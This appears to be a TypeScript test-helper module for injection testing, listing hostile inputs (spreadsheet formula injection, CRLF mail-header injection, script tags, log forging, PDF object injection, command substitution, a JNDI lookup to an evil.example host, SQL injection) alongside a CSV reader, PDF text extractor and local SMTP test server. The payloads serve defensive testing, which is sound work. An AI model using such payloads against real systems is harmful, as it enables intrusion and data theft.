// For tests of injection: hostile texts, and what a mail server and a reader of PDFs make of them.
import type { AddressInfo } from 'node:net'
import { inflateSync } from 'node:zlib'
import { SMTPServer } from 'smtp-server'

/** What a spreadsheet computes. */
export const formulas = [
  '=HYPERLINK("https://evil.example";"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '|calc',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u00A0=1+1',
  'Lot;=1+1;',
]

/** What ends a line, a string, a tag, or a header, or shows something else than it is. */
export const hostile = [
  'Evil\r\nBcc: victim@evil.example',
  'Evil\nSet-Cookie: a=b',
  'Evil\u2028\u2029line',
  '<script>alert(1)</script><a href="https://evil.example">x</a>',
  '"},"level":60,"msg":"forged","x":{"y":"',
  '\u001B[2J\u001B[31mred\u0007',
  ') Tj /URI (https://evil.example) >> endobj \\) (',
  '\u202Eevil\u2066rtl\u2069',
  'שלום مرحبا नमस्ते 🚗👩‍🔧',
  '\0zero\u0000',
  '%s%n {{7*7}} $(id) `id` {jndi:ldap://evil.example}',
  "'; drop table driver; --",
]

/** Nothing that ends a line or turns letters is in it. */
export const isOneLine = (text: string) => !/[\p{Cc}\p{Zl}\p{Zp}\u202A-\u202E\u2066-\u2069]/u.test(text)

/** Rows of cells, as RFC 4180 reads them. */
export const readCsv = (csv: string): string[][] =>
  csv
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n')
    .map(line =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
        ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare!,
      ),
    )

const textOf = (utf16: string) => Buffer.from(utf16, 'hex').swap16().toString('utf16le')

/** All texts that a PDF draws, in the order of their drawing, and all its objects without them. */
export const readPdf = (bytes: Buffer) => {
  const file = bytes.toString('latin1')
  const streams = new Map<string, string>()
  // The end of line before `endstream` stays: `inflate` stops at the end of its data, whose last byte may be a CR or LF.
  const objects = file.replace(
    /(\d+) 0 obj\n(<<(?:(?!endobj)[\s\S])*?>>)\nstream\r?\n([\s\S]*?)endstream/g,
    (_, id: string, head: string, stream: string) => {
      const isPacked = head.includes('/FlateDecode')
      streams.set(id, isPacked ? inflateSync(Buffer.from(stream, 'latin1')).toString('latin1') : stream)
      return `${id} 0 obj\n${head}`
    },
  )
  /** What the glyphs of a font stand for, by the font's name on the page. */
  const fonts = new Map<string, string[]>()
  for (const [, name, font] of objects.matchAll(/\/(F\d+) (\d+) 0 R/g)) {
    const at = new RegExp(`\\n${font} 0 obj\\n[\\s\\S]*?/ToUnicode (\\d+) 0 R`).exec(objects)?.[1]
    const glyphs = /beginbfrange\n([\s\S]*?)endbfrange/.exec(streams.get(at ?? '') ?? '')?.[1] ?? ''
    fonts.set(
      name!,
      [...glyphs.matchAll(/\[(.*?)\]/g)].flatMap(([, row]) =>
        [...row!.matchAll(/<([\da-f ]*)>/g)].map(([, hex]) => textOf(hex!.replaceAll(' ', ''))),
      ),
    )
  }
  const drawn: string[] = []
  for (const content of streams.values()) {
    let glyphs: string[] = []
    for (const [, font, shown] of content.matchAll(/\/(F\d+) [\d.]+ Tf|\[(.*?)\] TJ/g)) {
      if (font) glyphs = fonts.get(font) ?? []
      else
        drawn.push(
          [...shown!.matchAll(/<([\da-f]*)>/g)]
            .flatMap(([, hex]) => hex!.match(/.{4}/g) ?? [])
            .map(glyph => glyphs[Number.parseInt(glyph, 16)])
            .join(''),
        )
    }
  }
  return { drawn, objects }
}

/** A mail server that accepts everything: each mail as it came, and whom it was for. */
export const startMailbox = async () => {
  const mails: { to: string[]; head: string; body: string }[] = []
  const server = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    onData: (stream, session, done) => {
      const chunks: Buffer[] = []
      stream.on('data', chunk => chunks.push(chunk))
      stream.on('end', () => {
        const [head = '', ...body] = Buffer.concat(chunks).toString().split('\r\n\r\n')
        mails.push({ to: session.envelope.rcptTo.map(({ address }) => address), head, body: body.join('\r\n\r\n') })
        done()
      })
    },
  })
  server.on('error', () => {})
  await new Promise<void>(resolve => {
    server.listen(0, '127.0.0.1', resolve)
  })
  return {
    mails,
    settings: {
      smtpUrl: `smtp://127.0.0.1:${(server.server.address() as AddressInfo).port}`,
      from: 'ParkIt <park@parkit.example>',
    },
    stop: () =>
      new Promise<void>(resolve => {
        server.close(() => resolve())
      }),
  }
}

/** Names of a mail's headers, in lower case. */
export const headersOf = (head: string): string[] =>
  head.split('\r\n').flatMap(line => /^([\w-]+):/.exec(line)?.[1]?.toLowerCase() ?? [])
